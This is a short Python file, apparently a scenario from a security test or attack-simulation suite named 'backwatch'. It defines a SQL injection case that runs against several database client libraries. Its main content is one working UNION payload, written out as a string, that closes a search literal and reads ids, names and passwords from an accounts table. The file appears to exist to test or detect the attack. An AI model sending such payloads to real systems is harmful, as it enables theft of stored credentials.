"""F1: an injected UNION reads passwords out of another table."""

from backwatch.attack.clients.asyncpg import Asyncpg
from backwatch.attack.clients.psycopg import Psycopg
from backwatch.attack.clients.psycopg2 import Psycopg2
from backwatch.attack.clients.pymysql import PyMySQL
from backwatch.attack.protocols.tables import LOOT
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.sql import SearchPage


class SqlUnionInjected(SearchPage):
    """The search text ends the literal and adds a query of its own."""

    attack = "reads a table of passwords through a UNION that a search field let in"
    shows = LOOT
    injected = "x' UNION SELECT id, name, password FROM accounts WHERE id < 5 -- "
    runs = (Run(PyMySQL), Run(Psycopg), Run(Asyncpg, "asyncpg"), Run(Psycopg2, "psycopg2"))
